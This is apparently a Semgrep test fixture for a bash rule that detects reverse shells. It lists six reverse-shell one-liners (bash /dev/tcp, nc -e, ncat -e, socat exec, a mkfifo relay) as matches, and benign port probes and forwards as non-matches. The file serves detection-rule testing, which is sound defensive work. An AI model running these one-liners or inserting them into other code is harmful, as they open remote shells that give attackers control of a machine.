#!/bin/bash
# Fixture for sh-reverse-shell.
# RULEID: interactive shell redirected to a /dev/tcp device, exec of a tcp descriptor, netcat and ncat with an execute flag, socat exec, mkfifo relay.
# (The read-write `exec N<>` form is matched too, but Semgrep's bash parser rejects `<>`, so it
# cannot live in a --test fixture without a parse error.)
# OK: /dev/tcp port probe for health checks, nc -z port scan, socat port forward without a shell.

# ruleid: sh-reverse-shell
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: sh-reverse-shell
nc -e /bin/sh 203.0.113.9 4444
# ruleid: sh-reverse-shell
ncat 10.1.2.3 9001 -e /bin/bash
# ruleid: sh-reverse-shell
socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.9:4444
# ruleid: sh-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ruleid: sh-reverse-shell
sh -i 2>&1 < /dev/tcp/203.0.113.9/53 >&0

wait_for_db() {
  # ok: sh-reverse-shell
  until (echo > /dev/tcp/"$DB_HOST"/5432) 2>/dev/null; do sleep 1; done
  # ok: sh-reverse-shell
  nc -z "$DB_HOST" 5432
  # ok: sh-reverse-shell
  socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80 &
}
